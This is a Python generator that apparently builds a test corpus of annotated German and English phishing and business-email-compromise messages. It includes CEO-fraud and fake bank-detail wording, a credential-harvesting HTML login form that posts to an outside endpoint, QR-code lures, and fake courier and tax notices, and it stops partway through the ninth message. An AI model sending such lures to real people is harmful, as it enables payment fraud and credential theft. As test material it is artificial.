"""Attack messages 01-16 (German, English)."""
from common import *


def A(key, cs='UTF-8', enc='B'):
    n, e = S(key)
    return addr(n, e, cs, enc)


# ------------------------------------------------------------------ 01
def a01():
    m = Msg('attack', 1, 'de', 'ceo-fraud-vertrauliche-uebernahme', '2026-10-14 08:47:12', 'DE',
            'claudia.woerner@example.com', 'matthias.brenner@examplegroup-eu.com')
    m.route = routes.custom(m, 'mail.examplegroup-eu.com', 'vmi2381457.contaboserver.net', '161.97.143.88', [
        ('from smtpclient.apple ([185.220.101.47])\n\tby mail.examplegroup-eu.com (Postfix) with ESMTPSA id {qid}\n'
         '\tfor <claudia.woerner@example.com>; {date}', 1, 'DE', True)], tls='1.3')
    body = """Hallo Claudia,

bist du heute Vormittag im Büro? Ich brauche kurzfristig deine Unterstützung in einer vertraulichen Angelegenheit.

Wir stehen unmittelbar vor der Unterzeichnung der Übernahme eines Distributors in Österreich (intern Projekt „Lindwurm“). Die Verkäuferseite besteht auf einer Exklusivitätszahlung, die heute noch auf dem Treuhandkonto der begleitenden Kanzlei eingehen muss, sonst verlieren wir die Exklusivität an den Mitbewerber.

Dr. Alexander Reinholz von der Kanzlei Reinholz & Partner meldet sich in den nächsten Minuten per E-Mail bei dir und schickt dir die Kontodaten und das unterschriebene Term Sheet. Es geht um 486.500,00 EUR.

Bitte behandle das streng vertraulich – wir haben eine NDA unterschrieben und bis zum Signing darf intern niemand davon wissen, auch nicht Thomas oder das Controlling. Die Freigabe bitte ausnahmsweise direkt durch dich, ich bestätige dir das hier schriftlich. Ich sitze den ganzen Tag in Wien in Verhandlungen und kann nicht telefonieren, also bitte nur per Mail.

Gib mir kurz Bescheid, ob du die Echtzeitüberweisung heute noch ausführen kannst.

Danke dir!
Matthias

Von meinem iPhone gesendet
"""
    m.body = plain(body, 'utf-8', 'quoted-printable', quoted=False)
    m.h('@CT', None)
    m.h('From', addr('Dr. Matthias Brenner', 'matthias.brenner@examplegroup-eu.com', quote=True))
    m.h('Mime-Version', '1.0 (1.0)')
    m.h('Subject', 'Vertraulich - kurze Abstimmung')
    m.h('Date', m.date())
    m.h('Message-Id', '<%s@examplegroup-eu.com>' % uuid(m.rng, True))
    m.h('To', A('cfo', 'utf-8', 'Q'))
    m.h('X-Mailer', 'iPhone Mail (22B83)')
    m.what = 'CEO fraud: "Dr. Matthias Brenner" from look-alike domain examplegroup-eu.com asks the CFO for a secret same-day instant transfer of 486,500 EUR and announces a "lawyer".'
    m.why = ('Look-alike of examplegroup.eu registered on a Contabo VPS, submitted from a Tor exit node (185.220.101.47); '
             'secrecy ("not even Thomas or controlling"), urgency, bypass of dual control, "email only, cannot phone". '
             'The real CEO mails from the internal Exchange via mail-int01 (see business 03).')
    m.hn = 3
    return m


# ------------------------------------------------------------------ 02
def a02():
    m = Msg('attack', 2, 'de', 'lieferant-bankverbindung-lookalike', '2026-10-20 10:12:41', 'DE',
            'sabine.krueger@example.com', 'p.lang@lieferant-grnbh.de')
    m.route = routes.m365(m, 'EU', idx=1)
    cs = 'windows-1252'
    fake = BANK['lief_fake']
    src = """Sehr geehrte Frau Krüger,

vielen Dank für die Zusendung Ihrer OP-Liste.

Wie bereits telefonisch mit Ihrem Einkauf besprochen, stellen wir im Zuge unserer Konzernintegration den Zahlungsverkehr auf ein neues Finanzsystem um. Unser bisheriges Konto bei der Sparkasse Nürnberg wird im Rahmen der Umstellung zum Monatsende aufgelöst und kann bereits ab sofort keine Zahlungseingänge mehr verbuchen. Eingehende Zahlungen auf das alte Konto werden automatisch zurückgebucht.

Bitte veranlassen Sie daher die Zahlung der fälligen Rechnungen
RE-2026-10388 vom 18.09.2026 über 21.477,60 EUR
RE-2026-10433 vom 29.09.2026 über 17.434,80 EUR
(gesamt 38.912,40 EUR) ausschließlich auf unsere neue Bankverbindung:

Kontoinhaber: Lieferant GmbH
Bank: Solaris SE
IBAN: %s
BIC: SOBKDEBBXXX

Die offizielle Mitteilung mit Unterschrift unserer Geschäftsführung finden Sie im Anhang. Bitte bestätigen Sie uns kurz per E-Mail die Änderung Ihrer Kreditorenstammdaten und das voraussichtliche Ausführungsdatum, damit wir die Zahlung korrekt zuordnen können.

Mit freundlichen Grüßen

Petra Lang
Vertriebsinnendienst / Debitorenmanagement
Lieferant GmbH
Am Wöhrder See 7 · 90489 Nürnberg
Tel. +49 911 4805 2273
www.lieferant-gmbh.de

Lieferant GmbH · Sitz Nürnberg · Amtsgericht Nürnberg HRB 28814 · Geschäftsführer: Dr. Harald Ebner

-----Ursprüngliche Nachricht-----
Von: Sabine Krüger <sabine.krueger@example.com>
Gesendet: Freitag, 16. Oktober 2026 14:03
An: Petra Lang <p.lang@lieferant-gmbh.de>
Betreff: Offene Posten Lieferant GmbH / Kd.-Nr. 204117

Sehr geehrte Frau Lang,

anbei wie besprochen unsere aktuelle OP-Liste. Die Rechnungen RE-2026-10388 und RE-2026-10433 sind für den Zahllauf am 23.10. vorgesehen.

Mit freundlichen Grüßen
Sabine Krüger
Kreditorenbuchhaltung
Example Group GmbH
""" % IB(fake)
    a = alt(m, src, cs, 'quoted-printable', style='outlook', lang='DE', label='Windows-1252')
    letter = pdf_att([
        ('H', 'Lieferant GmbH'), ('S', 'Passive Bauelemente · Ferrite · Induktivitäten'),
        ('S', 'Am Wöhrder See 7 · 90489 Nürnberg · Tel. +49 911 4805 0'), '',
        'An alle Kunden der Lieferant GmbH', '', 'Nürnberg, 19.10.2026', '',
        ('B', 'Mitteilung über die Änderung unserer Bankverbindung'), '',
        'Sehr geehrte Damen und Herren,', '',
        'im Zuge der Integration in unsere Unternehmensgruppe ändert sich mit sofortiger Wirkung',
        'unsere Bankverbindung. Bitte leisten Sie alle Zahlungen ab sofort ausschließlich auf:', '',
        ('M', 'Kontoinhaber : Lieferant GmbH'), ('M', 'Kreditinstitut: Solaris SE, Berlin'),
        ('M', 'IBAN         : %s' % IB(fake)), ('M', 'BIC          : SOBKDEBBXXX'), '',
        'Die bisherige Bankverbindung bei der Sparkasse Nürnberg ist nicht mehr gültig.',
        'Bitte aktualisieren Sie Ihre Stammdaten und bestätigen Sie die Änderung per E-Mail.', '',
        'Mit freundlichen Grüßen', '', 'Dr. Harald Ebner                     Stefan Maier',
        'Geschäftsführer                      Leiter Finanzen', '',
        ('S', 'Lieferant GmbH · Amtsgericht Nürnberg HRB 28814 · USt-IdNr. %s' % VAT['lief'])],
        'Mitteilung_Bankverbindung_Lieferant_GmbH.pdf', title='Mitteilung Bankverbindung',
        author='p.lang', creator='Microsoft® Word für Microsoft 365', producer='Microsoft® Word für Microsoft 365',
        created=pdf_date(m, minutes_before=40))
    m.body = Multi('mixed', [a, letter], b_outlook(m, 4))
    m.h('From', addr('Petra Lang', 'p.lang@lieferant-grnbh.de'))
    m.h('To', addr('Sabine Krüger', 'sabine.krueger@example.com', 'iso-8859-1', 'Q'))
    m.h('CC', addr('Stefan Maier', 's.maier@lieferant-grnbh.de'))
    m.h('Subject', text_header('AW: Offene Posten Lieferant GmbH / Kd.-Nr. 204117', 'iso-8859-1', 'Q'))
    m.h('Thread-Topic', 'Offene Posten Lieferant GmbH / Kd.-Nr. 204117')
    m.h('Thread-Index', thread_index(m.rng, m.t, 1))
    m.h('Date', m.date('UTC'))
    m.h('Message-ID', routes.m365_msgid(m))
    m.h('References', '<%s@EXCH02.corp.example.com>' % hexs(m.rng, 32))
    m.h('In-Reply-To', '<%s@EXCH02.corp.example.com>' % hexs(m.rng, 32))
    for hh in routes.m365_tail(m, 'lieferant-grnbh.de', lang='de-DE', attach=True):
        m.h(*hh)
    m.h('MIME-Version', '1.0')
    m.what = 'Supplier bank-detail change (BEC): "Petra Lang, Lieferant GmbH" from look-alike lieferant-grnbh.de asks AP to pay 38,912.40 EUR of open invoices to a new IBAN at Solaris; fake reply with fabricated quoted history and a PDF "official notice".'
    m.why = ('Domain lieferant-grnbh.de ("rn" instead of "m") on an attacker Microsoft 365 tenant, CC to a fake "Stefan Maier" on the same domain; '
             'new account at a neobank, claim that the old account bounces, confirmation by e-mail only. '
             'The genuine change (business 02) comes from lieferant-gmbh.de, moves to Commerzbank Nürnberg with a transition period and asks for phone verification.')
    m.hn = 2
    return m


# ------------------------------------------------------------------ 03
def a03():
    m = Msg('attack', 3, 'de', 'elster-postfach-phishing-sendgrid', '2026-11-03 07:55:09', 'DE',
            'monika.schmid@example.com')
    sgid = b64s(m.rng, 22, AL + '-_')
    m.mailfrom = 'bounces+41827735-8f3a-monika.schmid=example.com@em4471.elster-postfach.de'
    fd = 'filterdrecv-6c8f4d9b7-x2kqp'
    m.route = routes.custom(m, 'wrqvxbnm.outbound-mail.sendgrid.net', 'wrqvxbnm.outbound-mail.sendgrid.net',
                            '149.72.161.59', [
                                ('by %s with SMTP id %s-1-%s-2A\n        2026-11-03 06:55:10.482913771 +0000 UTC m=+2345678.113904' % (fd, fd, hexs(m.rng, 8, True)), 1, 'UTC', False),
                                ('from MjE1NzA0NTk (unknown)\n\tby geopod-ismtpd-7 (SG) with HTTP\n\tid %s\n\tTue, 03 Nov 2026 06:55:09.917 +0000 (UTC)' % sgid, 0, 'UTC', False)],
                            tls='1.2')
    link = 'https://u41827735.ct.sendgrid.net/ls/click?upn=u001.' + b64s(m.rng, 120, AL + '-') + '-2Fh'
    src = """Sehr geehrte Damen und Herren,

in Ihrem ELSTER-Postfach ist eine neue Nachricht Ihres Finanzamts eingegangen.

**Betreff:** Rückfrage zur Umsatzsteuer-Voranmeldung September 2026
**Steuernummer:** 143/173/40219
**Absender:** Finanzamt München – Abteilung Körperschaften

Das Finanzamt bittet um Vorlage ergänzender Unterlagen zu den innergemeinschaftlichen Erwerben. Die Frist zur Beantwortung beträgt 7 Tage ab Zugang dieser Benachrichtigung. Bei Fristversäumnis kann ein Verspätungszuschlag gemäß § 152 AO festgesetzt werden.

[btn:Nachricht in Mein ELSTER abrufen|%s]

Aus Sicherheitsgründen ist der Abruf nur mit Ihrem ELSTER-Zertifikat oder per ELSTER-Login möglich.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.
""" % link
    m.body = alt(m, src, 'utf-8', 'quoted-printable', html_cte='base64', style='brand', boundary=b_hex(m, 64),
                 brand=dict(brand='ELSTER', color='#005a8c', btn='#005a8c', lang='de', title='Mein ELSTER',
                            footer='ELSTER – Ihr Online-Finanzamt · Bayerisches Landesamt für Steuern · Impressum · Datenschutz'))
    m.h('From', addr('ELSTER - Ihr Online-Finanzamt', 'benachrichtigung@elster-postfach.de', quote=True))
    m.h('Mime-Version', '1.0')
    m.h('Subject', text_header('Neue Nachricht in Ihrem ELSTER-Postfach – Rückfrage des Finanzamts', 'UTF-8', 'Q'))
    m.h('Date', m.date('UTC'))
    m.h('Message-ID', '<%s@geopod-ismtpd-7>' % sgid)
    m.h('X-SG-EID', b64s(m.rng, 76, AL + '+/') + '\n ' + b64s(m.rng, 70, AL + '+/') + '==')
    m.h('To', addr(None, 'monika.schmid@example.com'))
    m.h('X-Entity-ID', 'u001.' + b64s(m.rng, 22, AL + '+/') + '==')
    m.what = 'ELSTER credential phishing: "new message in your ELSTER mailbox" about the September VAT return, button via SendGrid click tracking to a fake Mein-ELSTER login.'
    m.why = ('Sent through a (stolen) SendGrid account with sending domain elster-postfach.de, not elster.de; the button hides the target behind a ct.sendgrid.net redirect; '
             'deadline plus § 152 AO surcharge threat. Genuine ELSTER notices come from noreply@elster.de and contain no login links (business 08).')
    m.hn = 8
    return m


# ------------------------------------------------------------------ 04
def a04():
    m = Msg('attack', 4, 'de', 'zahlungsavis-xrechnung-html-anhang', '2026-11-10 14:21:37', 'DE',
            'monika.schmid@example.com', 'buchhaltung@baumann-ems.de')
    m.route = routes.custom(m, 'mo4-p00-ob.smtp.rzone.de', 'mo4-p00-ob.smtp.rzone.de', '81.169.146.179', [
        ('from DESKTOP-7QK2M4L by smtp.strato.de (RZmta 51.3.0 AUTH)\n\twith ESMTPSA id z4f1a2eAADLb7K1\n'
         '\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n\t(Client did not present a certificate)\n'
         '\tfor <monika.schmid@example.com>;\n\t{date}', 1, 'DE', True)], tls='1.3')
    phish = ('https://xrechnung-viewer.baumann-ems.workers.dev/auth/submit')
    html_att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>XRechnung Viewer – Zahlungsavis ZA-2026-0447</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.box{width:380px;margin:70px auto;background:#fff;padding:36px 44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:600;margin:16px 0 8px}p{font-size:13px;color:#333}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}</style></head>
<body><div class="box">
<div style="font-size:18px;color:#737373"><b style="color:#f25022">&#9632;</b><b style="color:#7fba00">&#9632;</b><b style="color:#00a4ef">&#9632;</b><b style="color:#ffb900">&#9632;</b> Microsoft</div>
<h1>Geschütztes Dokument</h1>
<p>Zahlungsavis_ZA-2026-0447.xml (XRechnung 3.0, 14.286,90 EUR) wurde Ihnen über den Dokumentenservice freigegeben.
Melden Sie sich mit Ihrem Geschäftskonto an, um das Dokument anzuzeigen.</p>
<form method="post" action="{PHISH}">
<input type="email" name="login" value="monika.schmid@example.com">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="ZA-2026-0447">
<button type="submit">Anmelden</button></form>
<p style="clear:both;padding-top:18px;font-size:11px;color:#777">Nur für autorisierte Empfänger. Sitzung verschlüsselt.</p>
</div></body></html>
""".replace('{PHISH}', phish)
    body = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unser Zahlungsavis ZA-2026-0447 über 14.286,90 EUR zu Ihren Rechnungen 90431877, 90432015 und 90432260.

Gemäß der E-Rechnungspflicht übermitteln wir das Avis als XRechnung. Das Dokument kann direkt im Browser geöffnet werden.

Bei Rückfragen stehen wir Ihnen gerne zur Verfügung.

Mit freundlichen Grüßen

Buchhaltung
Baumann Elektronikfertigung GmbH
Gewerbering 14 · 85356 Freising
Tel. 08161 93 27 40
"""
    m.body = Multi('mixed', [plain(body, 'iso-8859-1', '8bit', label='iso-8859-1'),
                             Att(html_att.encode('utf-8'), 'text/html', 'Zahlungsavis_ZA-2026-0447_XRechnung.html',
                                 note='credential form, no script')],
                   b_outlook_desktop(m), preamble='This is a multipart message in MIME format.')
    m.h('From', addr('Buchhaltung Baumann Elektronikfertigung GmbH', 'buchhaltung@baumann-ems.de'))
    m.h('To', addr(None, 'monika.schmid@example.com', quote='bare'))
    m.h('Subject', 'Zahlungsavis ZA-2026-0447 - XRechnung')
    m.h('Date', m.date())
    m.h('Message-ID', outlook_msgid(m.rng, m.t, 'baumann-ems.de'))
    m.h('MIME-Version', '1.0')
    m.h('@CT', None)
    m.h('X-Mailer', 'Microsoft Outlook 16.0')
    m.h('Thread-Index', thread_index(m.rng, m.t))
    m.h('Content-Language', 'de')
    m.h('X-RZG-AUTH', '":P2EQZWCpfu+qG7CngxMFH1J+3q8wa/QLpd5ylWvMDX3y/OuD5rXVisR4U1sWD' + b64s(m.rng, 20, AL) + '="')
    m.h('X-RZG-CLASS-ID', 'mo00')
    m.what = 'Credential phishing from a compromised customer mailbox (Baumann Elektronikfertigung, Strato): "payment advice as XRechnung" with an HTML attachment that is a Microsoft-style login form pre-filled with the recipient.'
    m.why = ('An XRechnung is an XML file, not an HTML page asking for the Microsoft 365 password; the form posts to a workers.dev endpoint. '
             'Sent through Strato from a workstation name unknown to the customer; classic invoice/remittance HTML lure.')
    return m


# ------------------------------------------------------------------ 05
def a05():
    m = Msg('attack', 5, 'de', 'gehaltskonto-aenderung-freemail', '2026-11-18 19:42:05', 'DE',
            'juergen.weiss@example.com', 'niklas.vogt.fae@gmx.de')
    ip = '89.187.180.44'
    m.route = routes.gmx(m, ip, app='3c-app-gmx-bs52', mr='mrgmx005', mout=('mout.gmx.net', '212.227.17.21'))
    body = """Hallo Herr Weiß,

ich habe meine Hausbank gewechselt und möchte Sie bitten, mein Gehalt ab der Novemberabrechnung auf das neue Konto zu überweisen:

Kontoinhaber: Niklas Vogt
IBAN: %s
Bank: N26

Mein altes Konto bei der Stadtsparkasse München wird zum 20.11. aufgelöst, deshalb wäre es super, wenn die Änderung schon für den aktuellen Lauf greift.

Ich bin die ganze Woche bei Kunden in Tschechien unterwegs und komme nicht ins Personalportal (der VPN-Token liegt im Büro), deshalb schreibe ich Ihnen von meiner privaten Adresse. Eine kurze Bestätigung per Mail reicht mir völlig.

Vielen Dank und viele Grüße
Niklas Vogt
""" % IB(BANK['payroll_fake'])
    m.body = plain(body, 'UTF-8', 'quoted-printable', quoted=False)
    m.h('MIME-Version', '1.0')
    m.h('Message-ID', '<trinity-%s-%d@3c-app-gmx-bs52>' % (uuid(m.rng), int(m.t.timestamp() * 1000) + 317))
    m.h('From', addr('Niklas Vogt', 'niklas.vogt.fae@gmx.de'))
    m.h('To', addr(None, 'juergen.weiss@example.com', quote='bare'))
    m.h('Subject', 'Neue Bankverbindung Gehalt')
    m.h('@CT', None)
    m.h('Date', m.date())
    for hh in routes.gmx_headers(m, ip):
        m.h(*hh)
    m.what = 'Payroll diversion: "Niklas Vogt" (real FAE) writes from a new GMX address asking HR to pay his salary to a new N26 account from this payroll run on.'
    m.why = ('Unknown free-mail address using an employee name, bypasses the HR portal, e-mail-only confirmation, time pressure before the payroll run, '
             'sent in the evening from a hosting/VPN address. Compare business 04, where a colleague writes from her known private address without any payment request.')
    m.hn = 4
    return m


# ------------------------------------------------------------------ 06
def a06():
    m = Msg('attack', 6, 'de', 'dhl-einfuhrabgaben-brevo', '2026-10-27 09:33:18', 'DE',
            'florian.bauer@example.com')
    sib = '%d' % m.rng.randrange(10**10, 10**11)
    m.mailfrom = 'bounces-%s-florian.bauer=example.com@dhl-zollabwicklung.com' % hexs(m.rng, 10)
    m.route = routes.custom(m, 'r81.d.sender-sib.com', 'r81.d.sender-sib.com', '77.32.148.81', [
        ('from smtp-relay.brevo.com (unknown [10.141.3.22])\n\tby mta-out.brevo.com (Postfix) with ESMTP id {qid}\n'
         '\tfor <florian.bauer@example.com>; {date}', 1, 'UTC', True)], tls='1.3')
    link = 'https://a7c3e1f.r.sp1-brevo.net/mk/cl/f/sh/' + b64s(m.rng, 90, AL + '-_')
    src = """Guten Tag,

Ihre DHL Express Sendung **4837205916** aus Shenzhen (CN) wurde vom Zollamt München zur Abfertigung vorgemerkt.

|Position|Betrag|
|Warenbeschreibung|Integrated circuits, HS 8542.31|
|Zoll|0,00 EUR|
|Einfuhrumsatzsteuer (19 %)|412,18 EUR|
|Auslagepauschale DHL|12,50 EUR|
|Gesamt|424,68 EUR|

Damit wir Ihre Sendung zustellen können, begleichen Sie die Einfuhrabgaben bitte innerhalb von 48 Stunden online. Nach Ablauf der Frist wird die Sendung an den Absender zurückgesandt; die Rücksendekosten werden Ihnen in Rechnung gestellt.

[btn:Einfuhrabgaben jetzt bezahlen|{LINK}]

Vielen Dank, dass Sie sich für DHL Express entschieden haben.

DHL Express Germany GmbH
""".replace('{LINK}', link)
    m.body = alt(m, src, 'utf-8', 'quoted-printable', style='brand', boundary=b_hex(m, 32), link_style='angle',
                 brand=dict(brand='DHL EXPRESS', color='#FFCC00', btn='#D40511', lang='de', title='DHL Express',
                            logo='<span style="font-size:24px;font-weight:900;font-style:italic;color:#D40511">DHL</span>',
                            footer='DHL Express Germany GmbH · Heinrich-Brüning-Str. 5 · 53113 Bonn · Abmelden'))
    m.h('MIME-Version', '1.0')
    m.h('From', addr('DHL Express', 'noreply@dhl-zollabwicklung.com'))
    m.h('To', addr(None, 'florian.bauer@example.com'))
    m.h('Subject', text_header('Ihre Sendung 4837205916 – Einfuhrabgaben ausstehend', 'UTF-8', 'B'))
    m.h('Date', m.date('UTC'))
    m.h('Message-Id', '<%s.%s@smtp-relay.mailin.fr>' % (localtime(m.t, 'UTC').strftime('%Y%m%d%H%M'), sib))
    m.h('X-Mailer', 'Sendinblue')
    m.h('X-sib-id', b64s(m.rng, 70, AL + '_-'))
    m.h('Feedback-ID', '77.32.148.81:7531842_-1:7531842:Sendinblue')
    m.h('List-Unsubscribe', '<https://a7c3e1f.r.sp1-brevo.net/tr/un/li/%s>' % b64s(m.rng, 60, AL + '-_'))
    m.what = 'Customs/courier phishing: fake DHL Express notice demands 424.68 EUR import VAT for a chip shipment from Shenzhen within 48 h via a payment link.'
    m.why = ('Sent through Brevo from dhl-zollabwicklung.com (not dhl.com/dhl.de); Brevo click-tracking hides the card-payment page; '
             'Example Group imports on a DHL account with duties billed to the account (business 05), so no online card payment is ever requested.')
    m.hn = 5
    return m


# ------------------------------------------------------------------ 07
def a07():
    m = Msg('attack', 7, 'de', 'firmenregister-offerte-als-rechnung', '2026-12-01 11:05:44', 'DE',
            'sabine.krueger@example.com')
    mgid = hexs(m.rng, 24)
    m.mailfrom = 'bounce+%s.%s-sabine.krueger=example.com@mg.dfhr-register.de' % (hexs(m.rng, 6), hexs(m.rng, 6))
    m.route = routes.custom(m, 'm228-52.mailgun.net', 'm228-52.mailgun.net', '159.135.228.52', [
        ('by %s with HTTP id %s; Tue, 01 Dec 2026 10:05:44 GMT' % (hexs(m.rng, 40), mgid), 0, 'UTC', False)], tls='1.3')
    iban_s = BANK['register_fake']
    body = """Sehr geehrte Damen und Herren,

zur Aktualisierung Ihres Eintrags im Deutschen Firmen- und Handelsregister-Verzeichnis (DFHR) übersenden wir Ihnen das beiliegende Erfassungsformular mit den bei uns hinterlegten Daten Ihres Unternehmens:

Firma: Example Group GmbH
Registergericht: Amtsgericht München, HRB 241873
USt-IdNr.: %s
Aktenzeichen: DFHR-2026-118472

Bitte prüfen Sie die Angaben auf Richtigkeit. Die Eintragung wird mit Eingang der Gebühr in Höhe von 1.389,00 EUR bis zum 15.12.2026 wirksam. Die Zahlungsdaten finden Sie im Formular.

Mit freundlichen Grüßen
Registerverwaltung
DFHR Deutsches Firmen- und Handelsregister-Verzeichnis
""" % VAT['eg_de']
    form = pdf_att([
        ('H', 'DFHR · Deutsches Firmen- und Handelsregister-Verzeichnis'),
        ('S', 'Registerverwaltung · Postfach 10 22 61 · 10562 Berlin'), '',
        ('B', 'Erfassungsformular / Eintragungsantrag'), ('M', 'Aktenzeichen: DFHR-2026-118472      Datum: 01.12.2026'), '',
        ('M', 'Firma            : Example Group GmbH'), ('M', 'Anschrift        : Max-Planck-Straße 12, 85716 Unterschleißheim'),
        ('M', 'Registergericht  : Amtsgericht München, HRB 241873'), ('M', 'USt-IdNr.        : %s' % VAT['eg_de']),
        ('M', 'Branche          : Großhandel mit elektronischen Bauteilen'), '',
        ('M', 'Eintragungsgebühr (jährlich, netto)        1.389,00 EUR'),
        ('M', 'Zahlbar bis                                15.12.2026'), '',
        ('M', 'Empfänger : DFHR Registerverwaltung s.r.o.'), ('M', 'IBAN      : %s' % IB(iban_s)),
        ('M', 'BIC       : TATRSKBX'), ('M', 'Verwendung: DFHR-2026-118472'), '',
        ('S', 'Hinweis: Das DFHR ist ein privates Branchenverzeichnis und steht in keiner Verbindung zum amtlichen Handelsregister.'),
        ('S', 'Mit Zahlung der Gebühr oder Rücksendung des Formulars wird ein Eintragungsauftrag über eine Laufzeit von drei Jahren erteilt'),
        ('S', '(jährliche Gebühr 1.389,00 EUR netto). Es gelten die AGB unter www.dfhr-register.de/agb.')],
        'DFHR_Erfassungsformular_2026-118472.pdf', title='Erfassungsformular', creator='DFHR Formularserver',
        producer='iText 7.2.5', created=pdf_date(m, minutes_before=180))
    m.body = Multi('mixed', [plain(body, 'iso-8859-15', 'quoted-printable', label='iso-8859-15'), form], mgid[:28])
    m.h('Mime-Version', '1.0')
    m.h('@CT', None)
    m.h('Subject', 'Eintragung Example Group GmbH - HRB 241873 - Az. DFHR-2026-118472')
    m.h('From', addr('DFHR Registerverwaltung', 'service@dfhr-register.de'))
    m.h('To', addr(None, 'sabine.krueger@example.com', quote='bare'))
    m.h('Date', m.date('UTC'))
    m.h('Message-Id', '<%s.%s@mg.dfhr-register.de>' % (localtime(m.t, 'UTC').strftime('%Y%m%d%H%M%S'), hexs(m.rng, 16)))
    m.h('X-Mailgun-Sid', 'WyI' + b64s(m.rng, 40, AL) + 'IiwgIm1nLmRmaHItcmVnaXN0ZXIuZGUiXQ==')
    m.h('X-Mailgun-Variables', '{"case": "DFHR-2026-118472"}')
    m.what = 'Fake register "invoice" (address-book fraud): DFHR asks AP to pay 1,389 EUR for an "entry" using public Handelsregister data; PDF form with Slovak IBAN, small print turns payment into a 3-year contract.'
    m.why = ('Private directory posing as the official register, mass-sent via Mailgun, foreign account, the offer is only revealed in the small print; '
             'courts and the Handelsregister never invoice like this. Recognised fraud pattern ("Adressbuchschwindel").')
    return m


# ------------------------------------------------------------------ 08
def a08():
    m = Msg('attack', 8, 'de', 'mfa-neuregistrierung-quishing', '2026-11-12 08:05:26', 'DE',
            'lena.fischer@example.com', 'info@elektro-riedl.de')
    m.route = routes.custom(m, 'mout.kundenserver.de', 'mout.kundenserver.de', '212.227.126.133', [
        ('from [192.168.2.110] ([5.253.206.13]) by mrelayeu.kundenserver.de (mreue108\n [212.227.15.183]) with ESMTPSA (Nemesis) id 1M9Wyy-1tC3Fk0xQz for\n <lena.fischer@example.com>; {date}', 1, 'DE', False)],
        tls='1.3')
    url = 'https://entra-mfa-sync.pages.dev/enroll?tid=eg&u=bGVuYS5maXNjaGVyQGV4YW1wbGUuY29t&exp=1116'
    src = """Hallo Lena Fischer,

im Rahmen der Umstellung auf die neuen Sicherheitsstandards von Microsoft Entra ID müssen alle Konten der Example Group die Microsoft Authenticator-App bis zum **16.11.2026** neu registrieren. Konten, die bis dahin nicht neu registriert wurden, werden aus Sicherheitsgründen vorübergehend gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den unten stehenden QR-Code.
3. Melden Sie sich mit Ihrem Example-Group-Konto an und bestätigen Sie die Anfrage in der Authenticator-App.

Der QR-Code ist persönlich und 48 Stunden gültig. Bitte leiten Sie diese E-Mail nicht weiter.

Vielen Dank für Ihre Mithilfe
Ihr IT-Service-Desk
Example Group GmbH
"""
    plain_t, inner = md(src)
    inner = inner.replace('<p>Der QR-Code', '<p style="text-align:center"><img src="cid:qr-mfa-7731@eg" width="198" height="198" alt="QR-Code"></p>\n<p>Der QR-Code')
    html = brand_html(inner, 'utf-8', brand='Microsoft Entra ID | Example Group', color='#0078d4', lang='de',
                      title='MFA-Registrierung', footer='Example Group GmbH · IT-Service-Desk · Diese Nachricht wurde automatisch erstellt.')
    plain_t = plain_t.replace('Der QR-Code ist', '[QR-Code]\n\nDer QR-Code ist')
    rel = Multi('related', [Text(html, 'html', 'utf-8', 'quoted-printable'),
                            qr_att(url, 'qr-mfa-7731@eg', 'image001.png')], b_tb(m), extra=' type="text/html";')
    m.body = Multi('alternative', [Text(plain_t, 'plain', 'utf-8', 'quoted-printable'), rel], b_tb(m))
    m.h('From', addr('IT-Service-Desk | Example Group', 'info@elektro-riedl.de', quote=True))
    m.h('To', A('isales', 'UTF-8', 'Q'))
    m.h('Subject', text_header('Aktion erforderlich: Neu-Registrierung Microsoft Authenticator bis 16.11.', 'UTF-8', 'Q'))
    m.h('Date', m.date())
    m.h('Message-ID', '<%s@elektro-riedl.de>' % uuid(m.rng))
    m.h('MIME-Version', '1.0')
    m.h('User-Agent', 'Mozilla Thunderbird')
    m.h('Content-Language', 'de-DE')
    m.h('@CT', None)
    m.h('X-Provags-ID', 'V03:K1:' + b64s(m.rng, 60, AL + '+/'))
    m.h('UI-OutboundReport', 'notjunk:1;M01:P0:' + b64s(m.rng, 11, AL) + '=;' + b64s(m.rng, 40, AL + '+/'))
    m.what = 'Quishing: "IT-Service-Desk | Example Group" from a compromised electrician\'s IONOS mailbox asks to re-register Microsoft Authenticator by scanning an inline QR code (decodes to a Cloudflare Pages phishing URL carrying the recipient address).'
    m.why = ('External sender (elektro-riedl.de) with internal display name, lockout threat, QR code moves the login to the unmanaged phone; '
             'target is entra-mfa-sync.pages.dev with base64 e-mail. The real MFA notice (business 07) comes from IT via mail-int01, without QR code.')
    m.hn = 7
    return m


# ================================================================ ENGLISH
def a09():
    m = Msg('attack', 9, 'en', 'fake-docusign-ses-workers', '2026-10-22 15:40:03', 'UK',
            'james.whitaker@example.com')
    sesid = '0107019%s-%s-%s-%s-%s-000000' % (hexs(m.rng, 9), hexs(m.rng, 8), hexs(m.rng, 4), hexs(m.rng, 4), hexs(m.rng, 12))
    m.mailfrom = '%s@eu-west-1.amazonses.com' % sesid
    m.route = routes.custom(m, 'a4-12.smtp-out.eu-west-1.amazonses.com', 'a4-12.smtp-out.eu-west-1.amazonses.com',
                            '54.240.4.12', [], tls='1.3')
    link = 'https://northbridge-sign.docview-eu.workers.dev/d/8f3a91?e=amFtZXMud2hpdGFrZXJAZXhhbXBsZS5jb20='
    src = """Helen Marsh sent you a document to review and sign.

[btn:REVIEW DOCUMENT|%s]

**Helen Marsh**
helen.marsh@northbridge-controls.co.uk

Hello James,

Please review and sign the 2027 supply framework agreement (pricing annex B updated as agreed). We need the signed copy back by Friday so the new prices can be loaded for January deliveries.

Kind regards,
Helen

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit docusign.com, click 'Access Documents', and enter the security code:
8F3A91C2E7B54D0A9E6C1F37B2D8A4E51

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % link
